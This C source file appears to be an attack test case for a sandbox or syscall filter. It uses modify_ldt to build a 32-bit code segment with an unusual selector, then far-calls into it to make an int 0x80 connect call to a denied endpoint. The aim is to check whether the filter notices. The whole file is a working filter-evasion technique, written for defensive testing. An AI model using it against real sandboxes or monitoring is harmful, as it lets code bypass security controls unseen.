/* SPDX-License-Identifier: GPL-2.0-or-later
 *
 * test/attacks/x86_ldt.c - a code segment of its own making
 *
 * attack:   modify_ldt makes a 32-bit code segment with another selector than 0x23; the
 *           call is made from there
 * expect:   silent control=reached
 * event:    compat-syscall
 * source:   modify_ldt(2); engine.md "a code segment switched by LDT"
 * root:     no
 */
#include "attack.h"
#include <asm/ldt.h>

/* What a 32-bit call can point to. */
static void *low_pages(void)
{
	void *pages = mmap(NULL, 65536, PROT_READ | PROT_WRITE | PROT_EXEC,
			   MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	if (pages == MAP_FAILED)
		die("mmap");
	return pages;
}

static uint32_t low(const void *p)
{
	return (uint32_t)(uintptr_t)p;
}

/* 32-bit code, entered with ebx, ecx, edx set: ESP is as it was; HOW; far return to 64 bit */
static const unsigned char enter_int80[] = {0xcd, 0x80, 0xcb};

struct frame {
	uint32_t offset;
	uint16_t selector;
} __attribute__((packed));

/* The stack must lie low as well: what is pushed and popped in 32-bit mode is 32 bits wide. */
static long far_call(const void *code, unsigned short selector, uint32_t *stack, long nr,
		     long one, long two, long three)
{
	static struct frame frame;
	long result = nr;

	frame.offset = low(code);
	frame.selector = selector;
	__asm__ volatile("movq %%rsp, %%r12\n\t"
			 "movq %[stack], %%rsp\n\t"
			 "lcall *(%[frame])\n\t"
			 "movq %%r12, %%rsp"
			 : "+a"(result)
			 : [stack] "r"(stack), [frame] "r"(&frame), "b"(one), "c"(two),
			   "d"(three)
			 : "memory", "r8", "r9", "r10", "r11", "r12", "rsi", "rdi");
	return (int)result;
}

int main(int argc, char **argv)
{
	struct attack a = attack_from(argc, argv);
	char *pages = low_pages();
	struct endpoint *at = (struct endpoint *)(pages + 4096);
	struct user_desc segment = {.entry_number = 0,
				    .limit = 0xfffff,
				    .seg_32bit = 1,
				    .contents = MODIFY_LDT_CONTENTS_CODE,
				    .limit_in_pages = 1};
	int fd = open_tcp(a.denied.sa.sa_family);

	if (syscall(SYS_modify_ldt, 1, &segment, sizeof(segment)) != 0)
		lacks("modify_ldt");
	memcpy(pages, enter_int80, sizeof(enter_int80));
	*at = a.denied;
	printf("connect: %ld\n", far_call(pages, 0x07, (uint32_t *)(pages + 32768), 362,
					  fd, low(&at->v6), at->len));
	return 0;
}
